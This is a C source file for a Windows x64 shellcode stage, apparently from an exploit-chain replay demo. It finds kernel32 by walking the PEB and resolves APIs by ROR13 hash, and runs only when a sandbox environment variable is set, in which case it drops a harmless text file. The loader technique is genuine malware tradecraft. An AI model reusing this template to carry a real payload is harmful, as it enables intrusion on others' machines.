/*
 * payload.c - chainreplay demo stage 2 (benign, emulator-only).
 *
 * x64 position-independent shellcode, flattened to payload/sc.bin with
 * objcopy -O binary -j .text of the object file. The whole blob is a single
 * function (helpers are always_inline), starts at offset 0, references no
 * data and needs no relocations (the Makefile refuses to build otherwise).
 * Every string is built on the stack from 64-bit immediates.
 *
 * kernel32 is found by walking PEB->Ldr->InMemoryOrderModuleList and hashing
 * the upper-cased BaseDllName; exports are found by the ROR13 hash of their
 * name.
 *
 * Behaviour:
 *   GetEnvironmentVariableW(L"CHAINREPLAY_SANDBOX", buf, 32); return unless
 *     it is L"replay-only" (INERT outside the emulator);
 *   CreateFileW(L"C:\\Users\\Public\\demo_dropped.txt", GENERIC_WRITE, 0, NULL,
 *               CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
 *   WriteFile(h, "chainreplay demo payload\n", 25, &written, NULL);
 *   CloseHandle(h);
 *   return.
 */
#if !defined(__x86_64__)
#error "payload.c is x64-only"
#endif

typedef unsigned char u8;
typedef unsigned short u16;
typedef unsigned int u32;
typedef unsigned long long u64;
typedef u64 uptr;

#define INL static inline __attribute__((always_inline))
#define API __attribute__((ms_abi))

/* Pack 4 UTF-16 code units / 8 ASCII bytes into one little-endian qword. */
#define W4(a, b, c, d) ((u64)(u16)(a) | (u64)(u16)(b) << 16 | (u64)(u16)(c) << 32 | (u64)(u16)(d) << 48)
#define A8(a, b, c, d, e, f, g, h) \
    ((u64)(u8)(a) | (u64)(u8)(b) << 8 | (u64)(u8)(c) << 16 | (u64)(u8)(d) << 24 | \
     (u64)(u8)(e) << 32 | (u64)(u8)(f) << 40 | (u64)(u8)(g) << 48 | (u64)(u8)(h) << 56)

/* ROR13 hashes of the names (see README.md). */
#define H_KERNEL32_DLL            0x6e2bca17u /* "KERNEL32.DLL" */
#define H_GETENVIRONMENTVARIABLEW 0xf2e1a979u
#define H_CREATEFILEW             0x7c0017bbu
#define H_WRITEFILE               0xe80a791fu
#define H_CLOSEHANDLE             0x0ffd97fbu

#define GENERIC_WRITE_ 0x40000000u
#define CREATE_ALWAYS_ 2u
#define FILE_ATTRIBUTE_NORMAL_ 0x80u
#define INVALID_HANDLE ((void *)(uptr)-1)

typedef u32 (API *GetEnvironmentVariableW_t)(const u16 *, u16 *, u32);
typedef void *(API *CreateFileW_t)(const u16 *, u32, u32, void *, u32, u32, void *);
typedef int (API *WriteFile_t)(void *, const void *, u32, u32 *, void *);
typedef int (API *CloseHandle_t)(void *);

INL u32 ror13(u32 h) { return (h >> 13) | (h << 19); }

INL uptr find_module(u32 want)
{
    uptr peb, ldr, head, e;
    __asm__ volatile("movq %%gs:0x60, %0" : "=r"(peb));
    ldr = *(uptr *)(peb + 0x18);             /* PEB->Ldr */
    head = ldr + 0x20;                       /* InMemoryOrderModuleList */
    for (e = *(uptr *)head; e != head; e = *(uptr *)e) {
        u16 len = *(u16 *)(e + 0x48) / 2;    /* BaseDllName.Length */
        u16 *nm = *(u16 **)(e + 0x50);       /* BaseDllName.Buffer */
        u32 h = 0;
        u16 i;
        if (!nm)
            continue;
        for (i = 0; i < len; i++) {
            u16 c = nm[i];
            if (c >= 'a' && c <= 'z')
                c -= 0x20;
            h = ror13(h) + (u8)c;
        }
        if (h == want)
            return *(uptr *)(e + 0x20);      /* DllBase */
    }
    return 0;
}

INL void *find_export(uptr base, u32 want)
{
    u32 pe = *(u32 *)(base + 0x3c);
    u32 exp_rva = *(u32 *)(base + pe + 0x88);   /* DataDirectory[EXPORT] */
    uptr ed = base + exp_rva;
    u32 n, i, *names, *funcs;
    u16 *ords;
    if (!exp_rva)
        return 0;
    n = *(u32 *)(ed + 0x18);
    funcs = (u32 *)(base + *(u32 *)(ed + 0x1c));
    names = (u32 *)(base + *(u32 *)(ed + 0x20));
    ords = (u16 *)(base + *(u32 *)(ed + 0x24));
    for (i = 0; i < n; i++) {
        const u8 *s = (const u8 *)(base + names[i]);
        u32 h = 0;
        while (*s)
            h = ror13(h) + *s++;
        if (h == want)
            return (void *)(base + funcs[ords[i]]);
    }
    return 0;
}

void API payload_entry(void)
{
    u64 var[5], want[3], path[9], text[4];
    u16 val[32];
    const u16 *w;
    GetEnvironmentVariableW_t pGetEnv;
    CreateFileW_t pCreateFileW;
    WriteFile_t pWriteFile;
    CloseHandle_t pCloseHandle;
    void *h;
    u32 n, i, written = 0;
    uptr k32 = find_module(H_KERNEL32_DLL);

    if (!k32)
        return;
    pGetEnv = (GetEnvironmentVariableW_t)find_export(k32, H_GETENVIRONMENTVARIABLEW);
    if (!pGetEnv)
        return;

    /* L"CHAINREPLAY_SANDBOX" */
    var[0] = W4('C', 'H', 'A', 'I');
    var[1] = W4('N', 'R', 'E', 'P');
    var[2] = W4('L', 'A', 'Y', '_');
    var[3] = W4('S', 'A', 'N', 'D');
    var[4] = W4('B', 'O', 'X', 0);
    /* L"replay-only" */
    want[0] = W4('r', 'e', 'p', 'l');
    want[1] = W4('a', 'y', '-', 'o');
    want[2] = W4('n', 'l', 'y', 0);

    n = pGetEnv((const u16 *)var, val, 32);
    if (n != 11)
        return;
    w = (const u16 *)want;
    for (i = 0; i < n; i++)
        if (val[i] != w[i])
            return;

    pCreateFileW = (CreateFileW_t)find_export(k32, H_CREATEFILEW);
    pWriteFile = (WriteFile_t)find_export(k32, H_WRITEFILE);
    pCloseHandle = (CloseHandle_t)find_export(k32, H_CLOSEHANDLE);
    if (!pCreateFileW || !pWriteFile || !pCloseHandle)
        return;

    /* L"C:\\Users\\Public\\demo_dropped.txt" */
    path[0] = W4('C', ':', '\\', 'U');
    path[1] = W4('s', 'e', 'r', 's');
    path[2] = W4('\\', 'P', 'u', 'b');
    path[3] = W4('l', 'i', 'c', '\\');
    path[4] = W4('d', 'e', 'm', 'o');
    path[5] = W4('_', 'd', 'r', 'o');
    path[6] = W4('p', 'p', 'e', 'd');
    path[7] = W4('.', 't', 'x', 't');
    path[8] = 0;
    /* "chainreplay demo payload\n" (25 bytes) */
    text[0] = A8('c', 'h', 'a', 'i', 'n', 'r', 'e', 'p');
    text[1] = A8('l', 'a', 'y', ' ', 'd', 'e', 'm', 'o');
    text[2] = A8(' ', 'p', 'a', 'y', 'l', 'o', 'a', 'd');
    text[3] = A8('\n', 0, 0, 0, 0, 0, 0, 0);

    h = pCreateFileW((const u16 *)path, GENERIC_WRITE_, 0, 0, CREATE_ALWAYS_,
                     FILE_ATTRIBUTE_NORMAL_, 0);
    if (h == INVALID_HANDLE || !h)
        return;
    pWriteFile(h, text, 25, &written, 0);
    pCloseHandle(h);
}
